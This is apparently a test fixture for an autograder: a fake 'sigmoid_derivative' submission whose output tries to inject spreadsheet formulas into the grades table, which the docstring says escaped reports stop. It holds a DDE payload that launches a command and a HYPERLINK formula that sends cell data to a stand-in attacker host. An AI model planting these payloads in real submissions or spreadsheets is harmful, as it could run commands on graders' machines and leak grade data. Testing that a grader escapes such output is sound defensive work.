"""Puts a formula into the table of the grades, which a spreadsheet would run.

assignment: 03_sigmoid
expected: sigmoid_derivative 0
stopped by: escaped reports
"""

# %% sigmoid_derivative
def sigmoid_derivative(x):
    print("=cmd|'/c calc'!A0")
    raise ValueError('"\n=HYPERLINK("http://course-attack.example?"&A1,"10")\n@SUM(1)\n+1\n-1\t=1,=2;=3')
